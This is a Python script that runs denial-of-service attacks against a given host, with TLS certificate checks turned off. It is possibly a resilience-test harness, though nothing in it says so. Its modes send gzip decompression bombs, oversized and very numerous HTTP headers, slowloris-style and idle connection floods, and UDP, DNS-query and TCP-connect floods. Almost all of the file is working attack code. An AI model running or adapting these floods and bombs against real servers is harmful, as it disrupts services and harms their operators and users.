# More than anybody asked for: flood.py WHAT ALLOWED OTHER OTHER-ADDRESS. Certificates of any kind are accepted.
import gzip, http.client, socket, ssl, struct, sys, zlib

what, host, other, address = sys.argv[1:]
plain = ssl.create_default_context()
plain.check_hostname, plain.verify_mode = False, ssl.CERT_NONE


def post(body, headers):
    line = http.client.HTTPSConnection(host, timeout=15, context=plain)
    try:
        line.request("POST", "/v1/x", body, headers)
        print(line.getresponse().status)
    except OSError as e:
        print(e)


def tls():
    s = socket.create_connection((host, 443), timeout=10)
    return plain.wrap_socket(s, server_hostname=host)


def try_other():
    for name in (other, address):
        try:
            s = socket.create_connection((name, 8080), timeout=4)
            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            print(s.recv(100))
        except OSError as e:
            print(e)


if what == "bomb-gzip":
    # one megabyte of zeros and a full flush, a thousand times: made at once on the slowest machine
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    mega = z.compress(bytes(1 << 20)) + z.flush(zlib.Z_FULL_FLUSH)
    trailer = struct.pack("<II", 0x5B64C2B0, 1 << 30)
    head = bytes([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 2, 255])
    post(head + mega * 1024 + z.flush() + trailer, {"content-encoding": "gzip"})
elif what == "bomb-nested":
    body = b"x" * 1000
    for _ in range(3):
        body = gzip.compress(body)
    post(body, {"content-encoding": "gzip, gzip, gzip"})
elif what == "bomb-header":
    s = tls()
    try:
        s.sendall(f"GET /v1/x HTTP/1.1\r\nHost: {host}\r\nX: ".encode())
        for _ in range(64):
            s.sendall(b"a" * (1 << 20))
        s.sendall(b"\r\n\r\n")
        print(s.recv(200))
    except OSError as e:
        print(e)
elif what == "bomb-headers":
    s = tls()
    try:
        s.sendall(f"GET /v1/x HTTP/1.1\r\nHost: {host}\r\n".encode())
        for at in range(1000):
            s.sendall(b"".join(b"X%d: y\r\n" % (at * 100 + one) for one in range(100)))
        s.sendall(b"\r\n")
        print(s.recv(200))
    except OSError as e:
        print(e)
elif what == "flood-names":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for at in range(2000):
        label = b"n%d" % at
        name = b"".join(bytes([len(part)]) + part for part in [label, *other.encode().split(b".")]) + b"\0"
        s.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1", ("8.8.8.8", 53))
    try_other()
elif what == "flood-datagrams":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(20000):
        try:
            s.sendto(b"x" * 500, (address, 4433))
        except OSError:
            pass
elif what == "flood-connects":
    for at in range(2000):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((address, 8080 if at % 2 else 1000 + at))
        if at % 100 == 99:
            try_other() if at > 1900 else None
        s.close()
else:
    held = []
    for at in range(500 if what == "flood-idle" else 100):
        try:
            s = socket.create_connection((host, 443), timeout=2)
            if what == "flood-slow":
                s.sendall(b"\x16\x03\x01\x02\x00")
            held.append(s)
        except OSError as e:
            print(at, e)
            break
    if what == "flood-idle":
        # until the first of them has been ended for its silence; where nobody ends any, so long and on
        held[0].settimeout(14)
        try:
            held[0].recv(1)
        except OSError as e:
            print(e)
    try_other()
